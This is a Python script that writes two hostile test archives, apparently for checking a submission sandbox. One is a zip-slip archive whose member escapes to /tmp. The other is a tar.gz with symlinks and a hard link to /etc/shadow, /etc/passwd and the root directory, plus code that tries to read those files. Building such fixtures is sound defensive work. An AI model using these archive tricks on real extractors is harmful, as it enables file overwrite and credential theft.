"""Writes the two hostile archive samples (committed; re-run to regenerate them identically).

sample_submissions/hostile_zip_slip.zip         a submission with a `../` member aimed at the host's /tmp
sample_submissions/hostile_symlink_escape.tar.gz a submission whose links point at host files and `/`
"""

from __future__ import annotations

import io
import tarfile
import zipfile
from pathlib import Path

SAMPLES = Path(__file__).resolve().parent.parent / "sample_submissions"
FIXED_TIME = (2026, 1, 1, 0, 0, 0)
RUN_SH = "#!/bin/bash\npython src/main.py\n"
MAIN_PY = (
    '"""Looks like a pipeline; the archive around it is the attack."""\n'
    "import json, os\n"
    "found = {}\n"
    "for path in ('src/secret.txt', 'root_link/etc/shadow', 'hard_passwd'):\n"
    "    try:\n"
    "        with open(path) as fh:\n"
    "            found[path] = fh.read(200)\n"
    "    except OSError as exc:\n"
    "        found[path] = f'denied: {exc.strerror}'\n"
    "leaked = any(not v.startswith('denied') for v in found.values())\n"
    "print('ATTACK-RESULT ' + json.dumps({'attack': 'archive_links', 'succeeded': leaked, 'details': found}))\n"
)


def zip_slip() -> None:
    path = SAMPLES / "hostile_zip_slip.zip"
    with zipfile.ZipFile(path, "w", compression=zipfile.ZIP_DEFLATED) as zf:
        for name, text in (("submission/run.sh", RUN_SH), ("submission/src/main.py", MAIN_PY),
                           ("submission/README.md", "# HOSTILE TEST FIXTURE — zip slip\n"),
                           ("submission/../../../../../../tmp/aie-zip-slip-marker", "escaped the workspace\n")):
            info = zipfile.ZipInfo(name, FIXED_TIME)
            info.external_attr = 0o644 << 16
            zf.writestr(info, text)


def symlink_escape() -> None:
    path = SAMPLES / "hostile_symlink_escape.tar.gz"
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w", format=tarfile.PAX_FORMAT) as tf:
        for name, text in (("submission/run.sh", RUN_SH), ("submission/src/main.py", MAIN_PY),
                           ("submission/README.md", "# HOSTILE TEST FIXTURE — symlink escape\n")):
            data = text.encode()
            info = tarfile.TarInfo(name)
            info.size, info.mtime, info.mode = len(data), 1767225600, 0o644
            tf.addfile(info, io.BytesIO(data))
        for name, kind, target in (("submission/src/secret.txt", tarfile.SYMTYPE, "/etc/shadow"),
                                   ("submission/root_link", tarfile.SYMTYPE, "/"),
                                   ("submission/hard_passwd", tarfile.LNKTYPE, "/etc/passwd"),
                                   ("submission/null_device", tarfile.CHRTYPE, "")):
            info = tarfile.TarInfo(name)
            info.type, info.linkname, info.mtime = kind, target, 1767225600
            if kind == tarfile.CHRTYPE:
                info.devmajor, info.devminor = 1, 3
            tf.addfile(info)
    import gzip

    path.write_bytes(gzip.compress(buffer.getvalue(), mtime=0))


if __name__ == "__main__":
    zip_slip()
    symlink_escape()
    print("written:", SAMPLES / "hostile_zip_slip.zip", SAMPLES / "hostile_symlink_escape.tar.gz")
